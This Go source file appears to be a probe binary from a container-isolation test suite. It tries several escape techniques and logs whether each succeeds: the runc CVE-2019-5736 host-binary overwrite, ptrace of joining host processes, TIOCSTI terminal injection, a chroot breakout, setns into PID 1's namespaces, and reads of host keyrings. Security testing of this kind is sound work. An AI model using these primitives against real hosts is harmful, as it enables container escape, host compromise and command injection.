package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// interp runs when the kernel loaded this binary as the ELF interpreter of
// a host program that a "#!/proc/self/exe" script made run inside the
// container: /proc/self/exe is then the host's program. Keep a read-only
// fd on it and leave a daemon that re-opens it for writing as soon as no
// process executes it any more (ETXTBSY until then): runc's CVE-2019-5736.
func interp() {
	log, _ := os.OpenFile("/tmp/esc-exe.log", os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	fd, err := unix.Open("/proc/self/exe", unix.O_RDONLY, 0)
	fmt.Fprintf(log, "interp: open /proc/self/exe: %s\n", errName(err))
	if err != nil {
		os.Exit(0)
	}
	var st unix.Stat_t
	unix.Fstat(fd, &st)
	fmt.Fprintf(log, "interp: exe dev=%d ino=%d\n", st.Dev, st.Ino)
	null, _ := unix.Open("/dev/null", unix.O_RDWR, 0)
	_, err = syscall.ForkExec("/escprobe", []string{"escprobe", "overwrite"}, &syscall.ProcAttr{
		Files: []uintptr{uintptr(null), uintptr(null), uintptr(null), uintptr(fd)},
		Sys:   &syscall.SysProcAttr{Setsid: true},
	})
	fmt.Fprintf(log, "interp: daemon: %s\n", errName(err))
	os.Exit(0)
}

// opOverwrite is interp's daemon: fd 3 is the host program.
func opOverwrite(a []string) {
	log, _ := os.OpenFile("/tmp/esc-exe.log", os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	var last error
	for end := time.Now().Add(15 * time.Second); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		fd, err := unix.Open("/proc/self/fd/3", unix.O_WRONLY|unix.O_APPEND, 0)
		if err == nil {
			_, err = unix.Write(fd, []byte("GOVZ-ESCAPED\n"))
			fmt.Fprintf(log, "overwrite: write: %s\n", errName(err))
			return
		}
		if last == nil || err.Error() != last.Error() {
			fmt.Fprintf(log, "overwrite: open for write: %s\n", errName(err))
		}
		last = err
	}
	fmt.Fprintf(log, "overwrite: gave up: %s\n", errName(last))
}

// opPtraceJoin watches for the joining constructor of vzctl exec (its
// command line still the host binary's) for a[0] seconds; each one it
// sees it stops (it is in our PID namespace, as our UID), then tries to
// ptrace it, to open its executable and to read its fds, and lets it go.
func opPtraceJoin(a []string) {
	seen := map[int]bool{}
	caught := 0
	end := time.Now().Add(time.Duration(atoi(a[0])) * time.Second)
	self := os.Getpid()
	fmt.Println("READY")
	for time.Now().Before(end) && caught < 3 {
		d, err := os.Open("/proc")
		if err != nil {
			say("proc", errName(err))
			return
		}
		names, _ := d.Readdirnames(-1)
		d.Close()
		for _, n := range names {
			pid, err := strconv.Atoi(n)
			if err != nil || pid == self || seen[pid] {
				continue
			}
			if !joining(n) {
				// A guest program, or not yet readable: look again
				// next round until it has a command line.
				if c, _ := os.ReadFile("/proc/" + n + "/cmdline"); len(c) > 0 && !bytes.Contains(c, []byte("nsexec")) {
					seen[pid] = true
				}
				continue
			}
			seen[pid] = true
			stop := unix.Kill(pid, unix.SIGSTOP)
			// The signal lands when the process next leaves the kernel:
			// wait until it is stopped, then make sure it is still the
			// joining process and had not exec'd the guest's command
			// meanwhile (that one is the guest's own, fair game).
			for i := 0; stop == nil && i < 100 && !stopped(n); i++ {
				time.Sleep(time.Millisecond)
			}
			if !joining(n) {
				unix.Kill(pid, unix.SIGCONT)
				continue
			}
			caught++
			res := []string{"pid=" + n, "stop=" + errName(stop)}
			seize := unix.PtraceSeize(pid)
			res = append(res, "ptrace="+errName(seize))
			if seize == nil {
				unix.PtraceDetach(pid)
			}
			fd, err := unix.Open("/proc/"+n+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
			res = append(res, "exe_open="+errName(err))
			if err == nil {
				var st unix.Stat_t
				unix.Fstat(fd, &st)
				res = append(res, fmt.Sprintf("exe_ino=%d:%d", st.Dev, st.Ino))
				unix.Close(fd)
			}
			fds, err := os.ReadDir("/proc/" + n + "/fd")
			res = append(res, "fd_list="+errName(err))
			for _, f := range fds {
				l, _ := os.Readlink("/proc/" + n + "/fd/" + f.Name())
				res = append(res, "fd"+f.Name()+"="+l)
			}
			if stop == nil {
				unix.Kill(pid, unix.SIGCONT)
			}
			say("caught", strings.Join(res, ","))
		}
	}
	say("caught_total", caught)
}

// stopped reports whether process n is in the stopped state.
func stopped(n string) bool {
	b, _ := os.ReadFile("/proc/" + n + "/stat")
	i := bytes.LastIndexByte(b, ')')
	return i > 0 && i+2 < len(b) && (b[i+2] == 'T' || b[i+2] == 't')
}

// joining reports whether process n is a host program entering the
// container rather than a guest program: its command line is the
// constructor's, or its executable cannot be read or is no file of the
// container (a host binary or a memfd copy of one).
func joining(n string) bool {
	cmd, err := os.ReadFile("/proc/" + n + "/cmdline")
	if err != nil || len(cmd) == 0 {
		return false // gone, or a kernel thread's empty line
	}
	if bytes.Contains(cmd, []byte("nsexec")) {
		return true
	}
	target, err := os.Readlink("/proc/" + n + "/exe")
	if err != nil {
		return !os.IsNotExist(err)
	}
	var held, named unix.Stat_t
	if unix.Stat("/proc/"+n+"/exe", &held) != nil {
		return false
	}
	return unix.Stat(target, &named) != nil || held.Dev != named.Dev || held.Ino != named.Ino
}

// opFds checks the open fds, cwd and root of each process (self and
// a[...]): a path fd must name, inside the container, the very inode it
// holds; anything else reaches outside the container's root.
func opFds(a []string) {
	pids := append([]string{"self"}, a...)
	for _, p := range pids {
		base := "/proc/" + p
		var links []string
		ents, err := os.ReadDir(base + "/fd")
		if err != nil {
			say(p+"_fds", errName(err))
		}
		for _, e := range ents {
			links = append(links, "fd/"+e.Name())
		}
		links = append(links, "cwd", "root")
		checked := 0
		for _, l := range links {
			target, err := os.Readlink(base + "/" + l)
			if err != nil {
				continue
			}
			checked++
			if strings.HasPrefix(target, "pipe:") || strings.HasPrefix(target, "socket:") || strings.HasPrefix(target, "anon_inode:") {
				continue
			}
			var held, named unix.Stat_t
			if err := unix.Stat(base+"/"+l, &held); err != nil {
				continue // closed meanwhile (the readdir's own fd)
			}
			if err := unix.Stat(target, &named); err != nil || held.Dev != named.Dev || held.Ino != named.Ino {
				say("leak", fmt.Sprintf("%s/%s->%s(dev=%d,ino=%d)", p, l, target, held.Dev, held.Ino))
			}
		}
		say(p+"_checked", checked)
	}
}

// opTIOCSTI pushes a[0] plus a newline into the input of every terminal
// it holds or can open: fds 0-2, /dev/tty, /dev/console (a[1] narrows).
func opTIOCSTI(a []string) {
	text := a[0] + "\n"
	try := func(name string, fd int) {
		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
			say(name, "notty")
			return
		}
		var err error
		for i := 0; i < len(text) && err == nil; i++ {
			b := text[i]
			_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b)))
			err = errno(e)
		}
		say(name, "tiocsti:"+errName(err))
	}
	// Where it may push: its stdio and controlling terminal ("own"),
	// /dev/console ("console"), both by default. The suite runs "own"
	// only on a terminal of its own (script(1)), never the developer's,
	// and the host control never touches the machine's console.
	which := "own,console"
	if len(a) > 1 {
		which = a[1]
	}
	var targets []string
	if strings.Contains(which, "own") {
		for fd := 0; fd < 3; fd++ {
			try("fd"+strconv.Itoa(fd), fd)
		}
		targets = append(targets, "/dev/tty")
	}
	if strings.Contains(which, "console") {
		targets = append(targets, "/dev/console")
	}
	for _, p := range targets {
		fd, err := unix.Open(p, unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			say(p, "open:"+errName(err))
			continue
		}
		try(p, fd)
		unix.Close(fd)
	}
}

// opAbstract connects to the abstract unix socket @a[0] and says hello.
func opAbstract(a []string) {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		say("socket", errName(err))
		return
	}
	err = unix.Connect(fd, &unix.SockaddrUnix{Name: "@" + a[0]})
	say("connect", errName(err))
	if err == nil {
		unix.Write(fd, []byte("escaped\n"))
	}
}

// opSwapon makes a[0] a 1 MiB file and swapon(2)s it.
func opSwapon(a []string) {
	os.WriteFile(a[0], make([]byte, 1<<20), 0o600)
	p, _ := unix.BytePtrFromString(a[0])
	_, _, e := unix.Syscall(unix.SYS_SWAPON, uintptr(unsafe.Pointer(p)), 0, 0)
	say("swapon", errName(errno(e)))
	os.Remove(a[0])
}

// opClock sets the clocks to what they read: a change of nothing that the
// kernel only allows with CAP_SYS_TIME in the initial namespace.
func opClock(a []string) {
	var ts unix.Timespec
	unix.ClockGettime(unix.CLOCK_REALTIME, &ts)
	_, _, e := unix.Syscall(unix.SYS_CLOCK_SETTIME, unix.CLOCK_REALTIME, uintptr(unsafe.Pointer(&ts)), 0)
	say("clock_settime", errName(errno(e)))
	var tv unix.Timeval
	unix.Gettimeofday(&tv)
	say("settimeofday", errName(unix.Settimeofday(&tv)))
	tx := unix.Timex{Modes: unix.ADJ_OFFSET | 0x8000 /* ADJ_OFFSET_SINGLESHOT */}
	_, err := unix.Adjtimex(&tx)
	say("adjtimex_offset", errName(err))
}

// opReboot: reboot(2) with a[0]: kexec, cad_on, restart2; kexec_load(2).
func opReboot(a []string) {
	switch a[0] {
	case "kexec":
		_, _, e := unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0, 0, 0)
		say("kexec_load", errName(errno(e)))
		_, _, e = unix.Syscall6(unix.SYS_KEXEC_FILE_LOAD, ^uintptr(0), ^uintptr(0), 0, 0, 0, 0)
		say("kexec_file_load", errName(errno(e)))
		say("reboot_kexec", errName(unix.Reboot(unix.LINUX_REBOOT_CMD_KEXEC)))
		say("reboot_cad_on", errName(unix.Reboot(unix.LINUX_REBOOT_CMD_CAD_ON)))
	case "restart2":
		os.Stdout.Sync()
		say("reboot_restart2", errName(unix.Reboot(unix.LINUX_REBOOT_CMD_RESTART2)))
	}
}

// opLink: link a[0] to a[1] by name, and by an O_PATH fd (AT_EMPTY_PATH).
func opLink(a []string) {
	say("link", errName(unix.Link(a[0], a[1])))
	unix.Unlink(a[1])
	fd, err := unix.Open(a[0], unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		say("open", errName(err))
		return
	}
	say("linkat_empty_path", errName(unix.Linkat(fd, "", unix.AT_FDCWD, a[1], unix.AT_EMPTY_PATH)))
	say("linkat_proc_fd", errName(unix.Linkat(unix.AT_FDCWD, fmt.Sprintf("/proc/self/fd/%d", fd), unix.AT_FDCWD, a[1]+"2", unix.AT_SYMLINK_FOLLOW)))
	unix.Unlink(a[1])
	unix.Unlink(a[1] + "2")
}

// opNS lists every namespace reachable through /proc (type:inode) and
// tries to setns into those of PID 1.
func opNS(a []string) {
	set := map[string]bool{}
	pids, _ := filepath.Glob("/proc/[0-9]*/ns/*")
	for _, p := range append(pids, "/proc/self/ns/mnt") {
		var st unix.Stat_t
		if unix.Stat(p, &st) == nil {
			set[fmt.Sprintf("%s:%d", filepath.Base(p), st.Ino)] = true
		}
	}
	var l []string
	for k := range set {
		l = append(l, k)
	}
	say("reachable", strings.Join(l, ","))
	runtime.LockOSThread()
	for _, t := range []string{"net", "uts", "ipc", "cgroup", "pid", "user", "mnt"} {
		fd, err := unix.Open("/proc/1/ns/"+t, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			say("open_"+t, errName(err))
			continue
		}
		err = unix.Setns(fd, 0)
		var st unix.Stat_t
		unix.Fstat(fd, &st)
		say("setns_"+t, fmt.Sprintf("%s:%d", errName(err), st.Ino))
	}
}

// opFind walks the container's file system (and every process's root it
// can reach) for files containing a[0].
func opFind(a []string) {
	roots := map[string]string{"/": "/"}
	if ps, _ := filepath.Glob("/proc/[0-9]*/root"); len(ps) > 0 {
		for _, p := range ps {
			var st unix.Stat_t
			if unix.Stat(p+"/", &st) == nil {
				roots[fmt.Sprintf("%d:%d", st.Dev, st.Ino)] = p
			}
		}
	}
	token := []byte(a[0])
	files := 0
	for _, r := range roots {
		filepath.WalkDir(r, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			rel := strings.TrimPrefix(p, strings.TrimSuffix(r, "/"))
			if d.IsDir() && (rel == "/proc" || rel == "/sys" || rel == "/dev") {
				return filepath.SkipDir
			}
			// lstat, not the directory entry's type: a FIFO or device
			// bound over a regular file's name reads as regular there.
			info, err := d.Info()
			if err != nil || !info.Mode().IsRegular() || info.Size() > 4<<20 {
				return nil
			}
			files++
			if b, err := readNonblock(p); err == nil && bytes.Contains(b, token) {
				say("found", p)
			}
			return nil
		})
	}
	say("roots", len(roots))
	say("files", files)
}

// opKill: every pid in a[...] that is not us or our init gets SIGKILL, as
// does every process we see whose command line contains the marker a[0].
func opKill(a []string) {
	marker := []byte(a[0])
	ps, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range ps {
		if b, err := os.ReadFile(p); err == nil && bytes.Contains(b, marker) && !bytes.Contains(b, []byte("escprobe")) {
			pid := atoi(filepath.Base(filepath.Dir(p)))
			say("kill_marker_"+strconv.Itoa(pid), errName(unix.Kill(pid, unix.SIGKILL)))
		}
	}
	for _, s := range a[1:] {
		pid := atoi(s)
		if pid == 1 || pid == os.Getpid() {
			continue
		}
		fd, err := unix.PidfdOpen(pid, 0)
		say("pidfd_open_"+s, errName(err))
		if err == nil {
			say("pidfd_send_signal_"+s, errName(unix.PidfdSendSignal(fd, unix.SIGKILL, nil, 0)))
		}
		say("kill_"+s, errName(unix.Kill(pid, unix.SIGKILL)))
	}
}

// opWhoami prints the credentials the process runs with.
func opWhoami(a []string) {
	say("uid", os.Getuid())
	say("euid", os.Geteuid())
}

// opKmsg writes a[0] into the kernel log and reads one record of it.
func opKmsg(a []string) {
	fd, err := unix.Open("/dev/kmsg", unix.O_WRONLY|unix.O_CLOEXEC, 0)
	say("open_w", errName(err))
	if err == nil {
		_, err = unix.Write(fd, []byte(a[0]+"\n"))
		say("write", errName(err))
		unix.Close(fd)
	}
	fd, err = unix.Open("/dev/kmsg", unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	say("open_r", errName(err))
	if err == nil {
		n, err := unix.Read(fd, make([]byte, 8192))
		say("read", fmt.Sprintf("%d,%s", n, errName(err)))
		unix.Close(fd)
	}
	n, err := unix.Klogctl(3 /* SYSLOG_ACTION_READ_ALL */, make([]byte, 4096))
	say("syslog_read_all", fmt.Sprintf("%d,%s", n, errName(err)))
}

// opChroot: the classic chroot breakout (chroot into a subdirectory while
// holding the old root open, fchdir out, climb, chroot there): chroot
// JAIL PATH, then read PATH.
func opChroot(a []string) {
	os.MkdirAll(a[0], 0o755)
	fd, _ := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	say("chroot_jail", errName(unix.Chroot(a[0])))
	say("fchdir", errName(unix.Fchdir(fd)))
	for i := 0; i < 64; i++ {
		unix.Chdir("..")
	}
	say("chroot_dot", errName(unix.Chroot(".")))
	b, err := os.ReadFile(a[1])
	say("read", errName(err))
	if err == nil {
		say("content", strings.TrimSpace(string(b)))
	}
}

// opKeyHost (run on the host) makes a keyring shaped like a user's own
// keyring (possessor and user: all), with a key in it, in a fresh session
// keyring of this process, plus a key in that session itself; prints the
// serials. keyhost PAYLOAD keeps them until stdin closes; keyhost PAYLOAD
// -- CMD... runs CMD in that session ({key}, {keyring}, {skey} replaced
// by the serials), its output passed through. Both then invalidate them.
func opKeyHost(a []string) {
	runtime.LockOSThread() // the session keyring is this thread's
	if _, err := unix.KeyctlJoinSessionKeyring("govz-esc-session"); err != nil {
		say("join", errName(err))
		os.Exit(1)
	}
	kr, err := unix.AddKey("keyring", "govz-esc-keyring", nil, unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		say("keyring", errName(err))
		os.Exit(1)
	}
	if err := unix.KeyctlSetperm(kr, 0x3f3f0000); err != nil {
		say("setperm", errName(err))
		os.Exit(1)
	}
	key, err := unix.AddKey("user", "govz-esc-key", []byte(a[0]), kr)
	if err != nil {
		say("key", errName(err))
		os.Exit(1)
	}
	skey, err := unix.AddKey("user", "govz-esc-session-key", []byte(a[0]+"-session"), unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		say("skey", errName(err))
		os.Exit(1)
	}
	sess, _ := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	say("session", sess)
	say("keyring", kr)
	say("key", key)
	say("skey", skey)
	defer func() {
		for _, k := range []int{key, skey, kr} {
			unix.KeyctlInt(unix.KEYCTL_INVALIDATE, k, 0, 0, 0)
		}
	}()
	if len(a) < 3 || a[1] != "--" {
		bufio.NewReader(os.Stdin).ReadString('\n')
		return
	}
	r := strings.NewReplacer("{key}", strconv.Itoa(key), "{keyring}", strconv.Itoa(kr), "{skey}", strconv.Itoa(skey))
	argv := make([]string, len(a)-2)
	for i, x := range a[2:] {
		argv[i] = r.Replace(x)
	}
	path, err := exec.LookPath(argv[0])
	if err != nil {
		say("run", errName(err))
		return
	}
	// ForkExec from this locked thread: the child gets its session keyring.
	pid, err := syscall.ForkExec(path, argv, &syscall.ProcAttr{Env: os.Environ(), Files: []uintptr{0, 1, 2}})
	if err != nil {
		say("run", errName(err))
		return
	}
	var ws syscall.WaitStatus
	syscall.Wait4(pid, &ws, 0, nil)
}

// opKeyRead tries to read key a[0] by serial, then to link keyring a[1]
// into its own (fresh) session keyring and read the key as its possessor.
func opKeyRead(a []string) {
	runtime.LockOSThread()
	key, kr := atoi(a[0]), atoi(a[1])
	// The session keyring the command came with: if it is the host
	// caller's, every key in it is ours (possessed) already.
	sess, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	say("session_inherited", fmt.Sprintf("%s:%d", errName(err), sess))
	if len(a) > 2 {
		buf := make([]byte, 256)
		n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, atoi(a[2]), buf, 0)
		say("read_inherited_session_key", fmt.Sprintf("%s:%s", errName(err), buf[:max(0, min(n, len(buf)))]))
	}
	// A fresh anonymous session (NULL name), so that the link below
	// changes nothing the host holds.
	_, _, e := unix.Syscall(unix.SYS_KEYCTL, unix.KEYCTL_JOIN_SESSION_KEYRING, 0, 0)
	say("join_session", errName(errno(e)))
	read := func() string {
		buf := make([]byte, 256)
		n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, key, buf, 0)
		if err != nil {
			return errName(err)
		}
		return "ok:" + string(buf[:min(n, len(buf))])
	}
	desc, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, key)
	say("describe", errName(err)+":"+desc)
	say("read_by_serial", read())
	_, err = unix.KeyctlInt(unix.KEYCTL_LINK, kr, unix.KEY_SPEC_SESSION_KEYRING, 0, 0)
	say("link_keyring", errName(err))
	found, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", "govz-esc-key", 0)
	say("search", fmt.Sprintf("%s:%d", errName(err), found))
	say("read_possessed", read())
}

// readNonblock reads a file opened with O_NONBLOCK, so that a FIFO swapped
// in after the lstat cannot hang the walk.
func readNonblock(p string) ([]byte, error) {
	fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	f := os.NewFile(uintptr(fd), p)
	defer f.Close()
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFREG {
		return nil, unix.EINVAL
	}
	return io.ReadAll(f)
}
